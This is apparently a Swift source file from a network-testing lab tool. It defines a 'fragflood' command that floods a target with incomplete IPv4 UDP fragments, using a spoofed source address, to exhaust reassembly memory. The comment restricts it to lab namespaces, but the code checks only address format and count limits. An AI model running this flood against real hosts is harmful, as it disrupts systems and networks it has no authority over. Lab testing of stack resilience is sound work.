import ArgumentParser
import FTCPLinux
import FTCPWire
import Glibc

extension LabToolCommand {
    /// Sends IPv4 fragments of UDP datagrams that never complete (middle fragments only, each
    /// of a datagram of its own), as a flood aimed at a host's reassembly memory does: each
    /// holds memory until the reassembly timeout (30 s). For the lab only: to one address
    /// inside namespaces the lab created, bounded in count.
    struct FragmentFlood: ParsableCommand {
        static let configuration = CommandConfiguration(
            commandName: "fragflood",
            abstract: "Send COUNT incomplete UDP fragments (middle pieces) to ADDRESS at RATE per second."
        )

        @Option(help: "The target address.")
        var to: String
        @Option(help: "The source address written in the fragments.")
        var from: String
        @Option(help: "How many fragments.")
        var count: Int = 10_000
        @Option(help: "Fragments per second.")
        var rate: Int = 5_000
        @Option(help: "Payload bytes per fragment (a multiple of 8).")
        var size: Int = 1_200

        func validate() throws {
            guard IPv4Address(to) != nil, IPv4Address(from) != nil else {
                throw ValidationError("--to and --from must be IPv4 addresses")
            }
            guard count > 0, count <= 1_000_000 else { throw ValidationError("--count must be between 1 and 1000000") }
            guard rate > 0, rate <= 100_000 else { throw ValidationError("--rate must be between 1 and 100000") }
            guard size >= 8, size <= 1_400, size % 8 == 0 else {
                throw ValidationError("--size must be a multiple of 8 between 8 and 1400")
            }
        }

        func run() throws {
            let destination = IPv4Address(to)!.value
            let source = IPv4Address(from)!.value
            let socket = try RawIPv4Socket()
            var random = SystemRandomNumberGenerator()
            var packet = [UInt8](repeating: 0, count: 20 + size)
            for index in 0..<size { packet[20 + index] = UInt8(truncatingIfNeeded: random.next()) }
            var sent = 0
            var failed = 0
            for index in 0..<count {
                // Version 4, 20-byte header; more fragments follow, at offset 8..8192 bytes.
                packet[0] = 0x45
                let total = UInt16(20 + size)
                packet[2] = UInt8(total >> 8)
                packet[3] = UInt8(total & 0xFF)
                let identification = UInt16.random(in: 1...UInt16.max, using: &random)
                packet[4] = UInt8(identification >> 8)
                packet[5] = UInt8(identification & 0xFF)
                let offset = UInt16.random(in: 1...1_024, using: &random)  // in units of 8 bytes
                let flagsAndOffset = 0x2000 | offset  // MF
                packet[6] = UInt8(flagsAndOffset >> 8)
                packet[7] = UInt8(flagsAndOffset & 0xFF)
                packet[8] = 64
                packet[9] = 17  // UDP
                for (byte, shift) in [(12, 24), (13, 16), (14, 8), (15, 0)] {
                    packet[byte] = UInt8(truncatingIfNeeded: source >> UInt32(shift))
                    packet[byte + 4] = UInt8(truncatingIfNeeded: destination >> UInt32(shift))
                }
                do {
                    try packet.withUnsafeBytes { try socket.send($0) }  // the kernel fills in the checksum
                    sent += 1
                } catch {
                    failed += 1
                }
                if index % max(1, rate / 1000) == 0 { usleep(1_000) }
            }
            emit("fragflood sent=\(sent) failed=\(failed)")
        }
    }
}
